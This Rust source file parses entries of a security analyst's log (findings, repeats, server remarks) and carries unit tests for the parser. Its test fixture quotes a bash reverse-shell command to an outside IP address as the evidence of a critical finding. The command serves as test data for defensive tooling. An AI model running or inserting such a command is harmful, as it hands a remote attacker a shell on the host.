//! Entries of an analyst's log, as `record` writes them: a line with a time,
//! then indented lines.

use jiff::Timestamp;
use uuid::Uuid;

use watchtower_domain::finding::Severity;

/// Most detail lines of an entry; the record writes a few. More are no block of
/// ours.
const DETAILS: usize = 64;

#[derive(Debug, Clone, PartialEq)]
pub(super) enum EntryKind {
    Finding(Severity),
    /// Count of a finding that was reported before.
    Repeat,
    /// Opinion, verdict or message of the server.
    Remark,
}

#[derive(Debug, Clone, PartialEq)]
pub(super) struct LogEntry {
    pub(super) at: Timestamp,
    pub(super) kind: EntryKind,
    /// Title of a finding, text of the others.
    pub(super) text: String,
    /// Stream of a finding; other entries don't name theirs.
    pub(super) stream: Option<String>,
    /// Count of a repeat, such as `5`.
    pub(super) count: Option<String>,
    pub(super) incident: Option<Uuid>,
    /// Quotes, detail and recommended action.
    pub(super) details: Vec<String>,
}

/// Assembles lines to entries.
#[derive(Debug, Default)]
pub(super) struct EntryReader {
    open: Option<LogEntry>,
}

impl EntryReader {
    /// Takes the next line; returns the entry before it once that is whole.
    pub(super) fn line(&mut self, line: &str) -> Option<LogEntry> {
        if let Some(detail) = line.strip_prefix("    ") {
            if let Some(entry) = &mut self.open {
                add(entry, detail);
            }
            return None;
        }
        // A line of somebody else ends an entry, too.
        std::mem::replace(&mut self.open, head(line))
    }

    pub(super) fn end(&mut self) -> Option<LogEntry> {
        self.open.take()
    }
}

fn add(entry: &mut LogEntry, detail: &str) {
    let id = detail.strip_prefix("incident ").and_then(first_id);
    if id.is_some() {
        entry.incident = id;
    } else if entry.details.len() < DETAILS {
        entry.details.push(detail.to_owned());
    }
}

fn first_id(text: &str) -> Option<Uuid> {
    text.split(' ').next()?.parse().ok()
}

/// Entry of its first line: time, two blanks, word, text.
fn head(line: &str) -> Option<LogEntry> {
    let (at, rest) = line.split_once("  ")?;
    let at = at.parse().ok()?;
    let (word, text) = rest.split_once(' ')?;
    let text = text.trim();
    let entry = LogEntry {
        at,
        kind: EntryKind::Remark,
        text: text.to_owned(),
        stream: None,
        count: None,
        incident: None,
        details: Vec::new(),
    };
    // The text before the brackets may contain brackets itself.
    let (title, within) = text
        .rsplit_once("  (")
        .and_then(|(title, within)| Some((title, within.strip_suffix(')')?)))
        .unzip();
    match word {
        "--" => Some(entry),
        "repeat" => Some(LogEntry {
            kind: EntryKind::Repeat,
            count: within.and_then(|within| {
                let (count, _) = within.strip_prefix('#')?.split_once(';')?;
                Some(count.to_owned())
            }),
            incident: within.and_then(|within| first_id(within.rsplit_once("incident ")?.1)),
            text: title?.to_owned(),
            ..entry
        }),
        word => {
            let known = Severity::ALL
                .into_iter()
                .find(|severity| severity.as_str().eq_ignore_ascii_case(word));
            let stream = within.and_then(|within| within.rsplit_once(", "));
            Some(LogEntry {
                kind: EntryKind::Finding(known?),
                text: title.unwrap_or(text).to_owned(),
                stream: stream.map(|(stream, _)| stream.to_owned()),
                ..entry
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOG: &str = "\
2026-11-23T09:14:05Z  CRITICAL  Reverse shell (bash)  in a terminal  (team, 12.3 s)
    > bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
    A shell was connected to an outside address.
    action: Isolate the host.
    incident 019ab300-0000-7000-8000-000000000001
2026-11-23T09:14:09Z  --        DevOps -> SecOps: disputes, low (0.80): It is the restore drill.
    > restore-drill.service: Succeeded
    incident 019ab300-0000-7000-8000-000000000001 Reverse shell in a terminal
no line of the record
    and none of its details
2026-11-23T09:15:05Z  repeat    Reverse shell in a terminal  (#5; 7 findings by all analysts since 2026-11-23T09:14:05Z; incident 019ab300-0000-7000-8000-000000000001)
2026-11-23T09:16:00Z  --        failed: panicked
";

    fn read(text: &str) -> Vec<LogEntry> {
        let mut reader = EntryReader::default();
        let mut entries: Vec<_> = text.lines().filter_map(|line| reader.line(line)).collect();
        entries.extend(reader.end());
        entries
    }

    #[test]
    fn blocks_become_entries() {
        let id: Uuid = "019ab300-0000-7000-8000-000000000001".parse().unwrap();
        let entries = read(LOG);
        let [finding, opinion, repeat, failure] = entries.as_slice() else {
            panic!("{entries:#?}");
        };
        assert_eq!(finding.kind, EntryKind::Finding(Severity::Critical));
        assert_eq!(finding.text, "Reverse shell (bash)  in a terminal");
        assert_eq!(finding.stream.as_deref(), Some("team"));
        assert_eq!(finding.incident, Some(id));
        assert_eq!(finding.details.len(), 3, "{:?}", finding.details);
        assert_eq!(opinion.kind, EntryKind::Remark);
        assert!(opinion.text.starts_with("DevOps -> SecOps: disputes"));
        assert_eq!(opinion.incident, Some(id));
        assert_eq!(opinion.details, ["> restore-drill.service: Succeeded"]);
        assert_eq!(
            (
                &repeat.kind,
                repeat.text.as_str(),
                repeat.count.as_deref(),
                repeat.incident
            ),
            (
                &EntryKind::Repeat,
                "Reverse shell in a terminal",
                Some("5"),
                Some(id)
            )
        );
        assert_eq!(
            (failure.text.as_str(), failure.incident),
            ("failed: panicked", None)
        );
    }

    #[test]
    fn text_that_is_no_log_is_left_out() {
        for text in [
            "",
            "    ",
            "2026-11-23T09:14:05Z",
            "yesterday  HIGH      A title  (team, 1.0 s)",
            "2026-11-23T09:14:05Z  ENORMOUS  A title  (team, 1.0 s)",
            "2026-11-23T09:14:05Z  repeat    A title",
        ] {
            assert_eq!(read(text), [], "{text:?}");
        }
    }
}
